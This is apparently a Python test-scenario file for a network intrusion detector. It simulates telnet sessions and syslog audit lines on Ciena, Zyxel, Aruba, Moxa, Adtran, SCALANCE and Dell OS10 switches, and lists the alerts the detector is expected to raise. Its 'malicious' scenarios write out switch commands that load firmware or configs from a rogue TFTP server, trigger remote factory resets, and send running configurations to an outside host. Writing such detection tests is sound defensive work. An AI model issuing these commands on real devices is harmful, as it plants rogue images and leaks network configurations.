"""BW05, BW07 and BW18: commands of carriers' and industrial devices, of Zyxel, Aruba and Dell, typed and logged."""

from __future__ import annotations

from bootwarden.scenarios.bw07_loaders import console
from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import ATTACKER, BOOT_SERVER, HQ, OUTSIDE, ROGUE
from bootwarden.traffic import syslog
from bootwarden.traffic.telnet import Telnet
from bootwarden.traffic.wire import Wire

OTHERS_LOAD, CARRIERS_LOAD, CARRIERS_SEND = 1542007001, 1542007003, 1542007004
OS10_LOADS, OS10_SENDS = 1542007301, 1542007332
PACKAGE = "ciena/packages/saos-06-13-00-0156"


def asked(wire: Wire, last: int, prompt: str, line: str, *answers: tuple[str, str]) -> None:
    """A command that asks for the rest: each prompt, and what is answered."""
    session = Telnet(wire, ATTACKER, f"10.0.1.{last}", prompt=prompt)
    session.tcp.reply(prompt.encode())
    for (question, _), typed in zip(answers, (line, *(answer for _, answer in answers)), strict=False):
        session.typed(typed, prompt=question)
    session.typed(answers[-1][1], "Download OK !!!")
    session.close()


def os10(command: str) -> str:
    """A command as OS10 accounts for it."""
    said = f"User mallory on /dev/pts/0 from {ATTACKER} used cmd: '{command}' - completed"
    return f"<110>1 2026-01-05T08:00:00.893679+00:00 leaf1 .clish 29156 - - Node.1-Unit.1:PRI [audit], {said}"


@scenario(
    "BW07",
    "malicious",
    raises=[
        *(("BW07", OTHERS_LOAD, ATTACKER, f"10.0.1.{last}") for last in (182, 183)),
        *(("BW07", CARRIERS_LOAD, ATTACKER, f"10.0.1.{last}") for last in (181, 186)),
        *(("BW07", 1, ATTACKER, f"10.0.1.{last}") for last in (184, 185)),
        *(("BW05", 3, ATTACKER, f"10.0.1.{last}") for last in (187, 189)),
        ("BW07", OS10_LOADS, "10.0.1.188", syslog.COLLECTOR),
    ],
    site=HQ,
    with_site=Expect(
        (
            Notice("Boot_Command", "10.0.1.181", ROGUE, PACKAGE),
            Notice("Boot_Command", "10.0.1.182", ROGUE, "evil.cfg"),
            Notice("Boot_Command", "10.0.1.183", ROGUE, "evil.cfg"),
            Notice("Boot_Command", "10.0.1.184", ROGUE, "evil.rom"),
            Notice("Boot_Command", "10.0.1.185", ROGUE, "evil.cfg"),
            Notice("Boot_Command", "10.0.1.186", ROGUE),
            Notice("Remote_Reload", "10.0.1.187"),
            Notice("Remote_Reload", "10.0.1.189"),
            Notice("Boot_Command", "10.0.1.188", ROGUE, "evil.bin"),
        ),
    ),
)
def bw07_carriers(wire: Wire) -> None:
    """Loads in words of SAOS, Zyxel, ArubaOS-Switch, Moxa, Adtran and SCALANCE; reloads of AOS-CX; OS10's log."""
    upgrade = f"software upgrade package saos-06-13-00-0156 tftp-server {ROGUE} package-path {PACKAGE}"
    console(wire, 181, "CN5142> ", (f"{upgrade} service-disruption allow", ""))
    console(wire, 182, "XS1930# ", (f"copy tftp config 1 {ROGUE} evil.cfg", "Transfer success."))
    console(wire, 183, "5406# ", (f"copy tftp config myConfig {ROGUE} evil.cfg oobm", ""))
    answers = (("TFTP server IP address: ", ROGUE), ("Source file name: ", "evil.rom"))
    asked(wire, 184, "EDS-408A-MM-SC# ", "copy tftp device-firmware", *answers)
    asked(
        wire,
        185,
        "NV3430#",
        "copy tftp startup-config",
        ("Address of remote host?", ROGUE),
        ("Source filename?", "evil.cfg"),
    )
    loads = (("loadsave", ""), (f"tftp server ipv4 {ROGUE} port 69", ""), ("tftp load filetype Config", ""))
    console(wire, 186, "CLI(config)#", *loads)
    console(wire, 187, "leaf1# ", ("boot system secondary", ""))
    console(wire, 189, "CLI#", ("restart factory", ""))
    syslog.send(wire, "10.0.1.188", os10(f"image install tftp://{ROGUE}/evil.bin"))


SENT = (
    Notice("Config_Exfiltration", "10.0.1.183", OUTSIDE, "x.cfg"),
    Notice("Config_Exfiltration", "10.0.1.184", OUTSIDE, "running.ini"),
    Notice("Config_Exfiltration", "10.0.1.185", OUTSIDE, "x.cfg"),
    Notice("Config_Exfiltration", "10.0.1.186", OUTSIDE),
    Notice("Config_Exfiltration", "10.0.1.188", OUTSIDE, "x.cfg"),
)


@scenario(
    "BW18",
    "malicious",
    raises=[
        ("BW18", CARRIERS_SEND, ATTACKER, "10.0.1.183"),
        ("BW18", 5, ATTACKER, "10.0.1.184"),
        ("BW18", OS10_SENDS, "10.0.1.188", syslog.COLLECTOR),
    ],
    plain=Expect(SENT),
    site=HQ,
    with_site=Expect(SENT),
)
def bw18_carriers(wire: Wire) -> None:
    """Configurations sent across the border by the same devices; only Zeek reads two lines together."""
    console(wire, 183, "5406# ", (f"copy config myConfig tftp {OUTSIDE} x.cfg", ""))
    console(wire, 184, "EDS-408A-MM-SC# ", (f"copy running-config tftp tftp://{OUTSIDE}/running.ini", "Upload Ok !!!"))
    answers = (("Address of remote host?", OUTSIDE), ("Destination filename?", "x.cfg"))
    asked(wire, 185, "NV3430#", "copy running-config tftp", *answers)
    console(wire, 186, "CLI(config)#", (f"tftp server ipv4 {OUTSIDE} port 69", ""), ("tftp save filetype Config", ""))
    syslog.send(wire, "10.0.1.188", os10(f"copy running-configuration tftp://{OUTSIDE}/x.cfg"))


@scenario("BW07", "benign", site=HQ, with_site=Expect())
def bw07_carriers_at_work(wire: Wire) -> None:
    """The same devices are looked at, save, name the declared server, and account for everyday commands."""
    for last, prompt, line in (
        (181, "CN5142> ", "software show"),
        (181, "CN5142> ", "configuration save"),
        (182, "XS1930# ", "show running-config"),
        (182, "XS1930# ", "write memory"),
        (183, "5406# ", "copy config old config new"),
        (183, "5406# ", f"copy config myConfig tftp {BOOT_SERVER} x.cfg"),
        (184, "EDS-408A-MM-SC# ", "show version"),
        (186, "CLI(config)#", f"tftp server ipv4 {BOOT_SERVER} port 69"),
        (186, "CLI#", "write startup-config"),
        (187, "leaf1# ", "boot set-default secondary"),
        (187, "ICX(config)#", "boot system flash secondary"),
    ):
        console(wire, last, prompt, (line, ""))
    for command in (
        "terminal length 0",
        "boot system standby",
        f"copy running-configuration tftp://{BOOT_SERVER}/x.cfg",
    ):
        syslog.send(wire, "10.0.1.188", os10(command))
